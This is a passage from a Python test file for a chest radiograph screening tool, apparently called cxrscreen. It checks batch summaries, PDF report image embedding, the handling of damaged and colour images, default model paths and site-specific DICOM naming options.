    env = {k: v for k, v in os.environ.items() if k != "TF_CPP_MIN_LOG_LEVEL"}
    done = subprocess.run([sys.executable, "-c", "from cxrscreen.infer import start_backend; print(start_backend())"],
                          env=env, cwd=tmp_path, capture_output=True, text=True, timeout=600)
    assert done.returncode == 0, done.stderr[-3000:]
    assert done.stdout.strip().startswith("tensorflow on ")
    assert "absl::InitializeLog" not in done.stderr and "I0000" not in done.stderr
    if "GPU" not in done.stdout:
        assert "cuInit" not in done.stderr


def test_the_batch_line_counts_in_words(tmp_path):
    """One study is "1 study", not "1 studies"."""
    result = CliRunner().invoke(main, ["batch", str(SAMPLES / "study6_plain_jpeg"), "--out", str(tmp_path / "o"),
                                       "--gradcam", "none"])
    assert result.exit_code == 0, result.output
    assert "1 study (0 unchanged since the last run, 0 with no screenable image)" in result.stdout
    assert ", 0 files skipped, 0 failed;" in result.stdout


def test_report_filename_is_unique_per_study():
    from cxrscreen.records import FileKind, Radiograph, Study

    def study(uid):
        return Study(uid, (Radiograph(Path("a"), FileKind.DICOM, uid, patient_id="P", study_date="20260101"),))

    assert report_filename(study("1.2.3")) != report_filename(study("1.2.4"))


def _pdf_pictures(path) -> list[tuple]:
    """(stream bytes, filter, width, height) of every image XObject of a PDF, each object once."""
    from pypdf import PdfReader

    pictures = {}
    for page in PdfReader(path).pages:
        for ref in page["/Resources"].get("/XObject", {}).values():
            xobj = ref.get_object()
            if xobj["/Subtype"] == "/Image":
                filters = xobj["/Filter"]
                filters = tuple(filters) if isinstance(filters, list) else (filters,)
                pictures[ref.idnum] = (xobj.get_data(), filters, xobj["/Width"], xobj["/Height"])
    return sorted(pictures.values())


def test_a_reports_pictures_are_embedded_as_the_jpegs_made_of_them_each_once(tmp_path):
    """The pictures are drawn without reportlab's Image flowable, which decodes every JPEG to name it: the PDF holds
    what that flowable would embed, each JPEG as made (DCTDecode, not decoded and compressed again), a picture
    shown twice once."""
    from reportlab.lib.units import mm
    from reportlab.platypus import Image, SimpleDocTemplate

    from cxrscreen.records import FileKind, Radiograph, Study
    from cxrscreen.report import ImageResult, StudyResult, _jpeg, _Picture, write_study_report

    rng = np.random.default_rng(0)
    thumb = rng.random((96, 80)).astype(np.float32)
    overlay = (rng.random((96, 80, 3)) * 255).astype(np.uint8)
    images = tuple(Radiograph(Path(f"IM{i}.dcm"), FileKind.DICOM, "1.2.3", patient_id="P") for i in range(2))
    result = StudyResult(Study("1.2.3", images), [ImageResult(images[0], 0.8, thumb, overlay),
                                                  ImageResult(images[1], 0.4, thumb, overlay)])
    write_study_report(tmp_path / "r.pdf", result, threshold=0.5, operating_point={}, model_name="m",
                       model_sha256="0" * 64)
    made = sorted((_jpeg(a).getvalue(), ("/DCTDecode",), 80, 96) for a in (thumb, overlay))
    assert _pdf_pictures(tmp_path / "r.pdf") == made

    for name, flowable in (("reportlab.pdf", lambda a: Image(_jpeg(a), width=40 * mm, height=48 * mm)),
                           ("ours.pdf", lambda a: _Picture(a, 40 * mm, 48 * mm))):
        SimpleDocTemplate(str(tmp_path / name)).build([flowable(a) for a in (thumb, overlay, thumb)])
    assert _pdf_pictures(tmp_path / "ours.pdf") == _pdf_pictures(tmp_path / "reportlab.pdf") == made


def test_a_failed_image_of_a_reused_study_stays_in_the_summary(tmp_path, model):
    pixels = (np.random.default_rng(2).random((128, 128)) * 4000).astype(np.uint16)
    box = tmp_path / "in"
    save(make_dicom(pixels, seed="good", study_seed="S", bits_stored=12), box / "good.dcm")
    bad = make_dicom(pixels, seed="bad", study_seed="S", bits_stored=12, view_position="AP")
    bad.PixelData = bad.PixelData[:1000]          # header fine, pixel data too short: fails at decode
    save(bad, box / "bad.dcm")
    for attempt in range(2):
        summary = run_batch([box], BatchOptions(out=tmp_path / "out", gradcam="none"), model=model)
        failed = [r for r in summary.rows if r["status"] == "failed"]
        assert [Path(r["path"]).name for r in failed] == ["bad.dcm"] and failed[0]["step"] == "decode"
        assert summary.exit_code == 1 and summary.reused == attempt


def test_colour_pictures_in_a_batch_are_listed_as_skipped_and_colour_radiographs_scored(tmp_path, model):
    import cv2

    from conftest import colour_versions

    box = tmp_path / "in"
    box.mkdir()
    versions = colour_versions()
    for name in ("grey", "sepia", "heatmap overlay"):
        cv2.imwrite(str(box / f"{name.replace(' ', '_')}.jpg"), versions[name][..., ::-1])
    save(make_dicom(versions["rainbow"], seed="rainbow", modality="OT", photometric="RGB", body_part="",
                    view_position=""), box / "rainbow.dcm")
    summary = run_batch([box], BatchOptions(out=tmp_path / "out", gradcam="none"), model=model)
    scored = sorted(Path(r["files"][0]).name for r in summary.rows if r["kind"] == "study" and r["report"])
    skipped = {Path(r["path"]).name: r for r in summary.rows if r["kind"] == "file"}
    assert scored == ["grey.jpg", "sepia.jpg"]
    assert sorted(skipped) == ["heatmap_overlay.jpg", "rainbow.dcm"] and summary.skipped_files == 2
    assert all(r["status"] == "skipped" and "colour picture, not a radiograph" in r["reason"]
               for r in skipped.values())
    assert summary.exit_code == 0
    # the rainbow's study has a row of its own, with nothing screened
    rainbow = [r for r in summary.rows if r["kind"] == "study" and r["files"] == [str(box / "rainbow.dcm")]]
    assert len(rainbow) == 1 and rainbow[0]["status"] == "skipped"


def test_default_model_is_found_in_a_checkout_or_where_pip_install_put_it(tmp_path, monkeypatch):
    import sys

    from cxrscreen import infer

    monkeypatch.delenv("CXRSCREEN_MODEL", raising=False)
    assert infer.default_model_path() == Path(__file__).resolve().parents[1] / "models" / "cxr-default.keras"
    # a plain `pip install .`: the package in site-packages, the model in <prefix>/share (setup.cfg data_files)
    monkeypatch.setattr(infer, "__file__", str(tmp_path / "lib" / "site-packages" / "cxrscreen" / "infer.py"))
    monkeypatch.setattr(sys, "prefix", str(tmp_path))
    shared = tmp_path / "share" / "cxrscreen" / "models" / "cxr-default.keras"
    assert infer.default_model_path().parent.parent.name == "site-packages"   # nothing installed: names the checkout
    shared.parent.mkdir(parents=True)
    shared.write_bytes(b"")
    assert infer.default_model_path() == shared
    monkeypatch.setenv("CXRSCREEN_MODEL", str(tmp_path / "mine.keras"))
    assert infer.default_model_path() == tmp_path / "mine.keras"


def test_a_sites_own_names_are_screened_and_said_so_on_the_worklist(tmp_path, write_dicom, chest_pixels, model,
                                                                  monkeypatch):
    """--chest-body-part and --frontal-view: the studies a site's modality names its own way are screened, and
    the worklist and summary say what the run let through besides frontal chest images."""
    from conftest import pdf_text

    from cxrscreen import pipeline

    inbox = tmp_path / "inbox"
    inbox.mkdir()
    write_dicom(chest_pixels, name="inbox/torax.dcm", body_part="TORAX", study_seed="s1")
    write_dicom(chest_pixels, name="inbox/erect.dcm", view_position="PA ERECT", study_seed="s2")
    monkeypatch.setattr(pipeline, "load_model", lambda path=None, **_: model)
    plain = CliRunner().invoke(main, ["batch", str(inbox), "--out", str(tmp_path / "a"), "--gradcam", "none",
                                      "--json"])
    summary = json.loads(plain.stdout)
    assert plain.exit_code == 0 and summary["skipped_files"] == 2 and summary["scored_images"] == 0
    assert "Also screened" not in pdf_text(tmp_path / "a" / "worklist.pdf")
    wide = CliRunner().invoke(main, ["batch", str(inbox), "--out", str(tmp_path / "b"), "--gradcam", "none", "--json",
                                     "--chest-body-part", "Torax", "--frontal-view", "PA ERECT"])
    summary = json.loads(wide.stdout)
    assert wide.exit_code == 0 and summary["skipped_files"] == 0 and summary["scored_images"] == 2
    assert summary["selection"] == {"include_lateral": False, "any_body_part": False, "chest_body_parts": ["TORAX"],
                                    "frontal_views": ["PA ERECT"]}
    assert "Also screened, by this run's options: ViewPosition PA ERECT as frontal; BodyPartExamined TORAX as " \
           "chest." in pdf_text(tmp_path / "b" / "worklist.pdf")
    empty = CliRunner().invoke(main, ["batch", str(inbox), "--out", str(tmp_path / "c"), "--chest-body-part", " "])
    assert empty.exit_code == 2 and "--chest-body-part needs a name" in empty.output


def test_the_progress_lines_count_failed_images_as_failed(tmp_path, caplog):
    """A run of 4 images, 2 of them damaged PNGs, said `scored 4/4 images`: the failed ones counted as scored."""
    import cv2

    from conftest import phantom

    inbox = tmp_path / "inbox"
    inbox.mkdir()
    picture = cv2.imencode(".png", (phantom(200, 180) >> 4).astype(np.uint8))[1].tobytes()
    (inbox / "whole0.png").write_bytes(picture)
    (inbox / "whole1.png").write_bytes(cv2.imencode(".png", (phantom(210, 180) >> 4).astype(np.uint8))[1].tobytes())
    (inbox / "cut.png").write_bytes(picture[:len(picture) // 2])
    (inbox / "changed.png").write_bytes(picture[:60] + bytes([picture[60] ^ 1]) + picture[61:])
    with caplog.at_level("INFO", logger="cxrscreen"):
        result = CliRunner().invoke(main, ["batch", str(inbox), "--out", str(tmp_path / "out"), "--gradcam", "none"])
    assert result.exit_code == 1, result.output
    said = [r.getMessage() for r in caplog.records if "images" in r.getMessage() and "/4" in r.getMessage()]
    assert said and said[-1] == "4/4 images: 2 scored, 2 failed" and "scored 4/4 images" not in said, said
